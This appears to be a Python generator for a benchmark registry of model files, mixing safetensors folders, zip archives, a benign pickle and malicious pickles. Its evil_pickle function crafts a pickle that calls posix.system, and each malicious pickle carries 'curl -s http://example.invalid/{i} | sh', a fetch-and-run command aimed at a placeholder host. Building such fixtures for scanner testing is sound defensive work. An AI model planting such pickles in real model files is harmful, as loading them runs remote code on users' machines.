#!/usr/bin/env python3
"""Writes a synthetic model registry for the fleet benchmark (docs/scale.md).

make-registry.py OUT [--small N] [--large K] [--large-mb M]

- N small units (default 200), cycling through: Hugging Face folders copied from the provenance control
  fixtures (config, tokenizer config, card) with a 1 MiB safetensors file, a zipped Hugging Face folder, a benign
  pickle checkpoint and a booby-trapped one;
- K large units (default 3), each a Hugging Face folder with one safetensors file of M MiB (default 200).
Tensor data is random bytes: hashing and parsing cost the same as for real weights. Deterministic (seeded).
"""
import io
import json
import os
import random
import struct
import sys
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
CONTROLS = sorted(p for p in (HERE / ".." / ".." / "fixtures" / "provenance").glob("control-*/*") if p.is_dir())


def safetensors(nbytes, rng):
    n = nbytes // 4
    header = json.dumps({"weight": {"dtype": "F32", "shape": [n], "data_offsets": [0, 4 * n]},
                         "__metadata__": {"format": "pt"}}).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + rng.randbytes(4 * n)


def hf_folder(folder, index, nbytes, rng):
    folder.mkdir(parents=True, exist_ok=True)
    control = CONTROLS[index % len(CONTROLS)]
    for f in control.iterdir():
        if f.is_file():
            (folder / f.name).write_bytes(f.read_bytes())
    (folder / "model.safetensors").write_bytes(safetensors(nbytes, rng))


def benign_pickle():
    # protocol 2: {'step': 1000, 'lr': 0.001}
    return (b"\x80\x02}q\x00(X\x04\x00\x00\x00stepq\x01M\xe8\x03X\x02\x00\x00\x00lrq\x02G?PbM\xd2\xf1\xa9\xfcu.")


def evil_pickle(command):
    arg = command.encode()
    return b"\x80\x02cposix\nsystem\nX" + struct.pack("<I", len(arg)) + arg + b"\x85R."


def main():
    args = sys.argv[1:]
    if not args:
        sys.exit(__doc__)
    out = Path(args[0])
    small = int(args[args.index("--small") + 1]) if "--small" in args else 200
    large = int(args[args.index("--large") + 1]) if "--large" in args else 3
    large_mb = int(args[args.index("--large-mb") + 1]) if "--large-mb" in args else 200
    rng = random.Random(20261203)
    for i in range(small):
        kind = i % 10
        if kind < 7:
            hf_folder(out / f"org-{i % 7}" / f"model-{i:04d}", i, 1 << 20, rng)
        elif kind == 7:
            buffer = io.BytesIO()
            tmp = out / ".tmp" / f"m{i}"
            hf_folder(tmp, i, 1 << 20, rng)
            with zipfile.ZipFile(buffer, "w") as z:
                for f in sorted(tmp.iterdir()):
                    z.write(f, f"model-{i:04d}/{f.name}")
                    f.unlink()
            tmp.rmdir()
            (out / "archives").mkdir(parents=True, exist_ok=True)
            (out / "archives" / f"model-{i:04d}.zip").write_bytes(buffer.getvalue())
        elif kind == 8:
            folder = out / "checkpoints" / f"run-{i:04d}"
            folder.mkdir(parents=True, exist_ok=True)
            (folder / "training_state.pkl").write_bytes(benign_pickle())
        else:
            folder = out / "untrusted" / f"upload-{i:04d}"
            folder.mkdir(parents=True, exist_ok=True)
            (folder / "model.pkl").write_bytes(evil_pickle(f"curl -s http://example.invalid/{i} | sh"))
    if (out / ".tmp").exists():
        (out / ".tmp").rmdir()
    for k in range(large):
        hf_folder(out / "large" / f"big-{k}", k, large_mb << 20, rng)


if __name__ == "__main__":
    main()
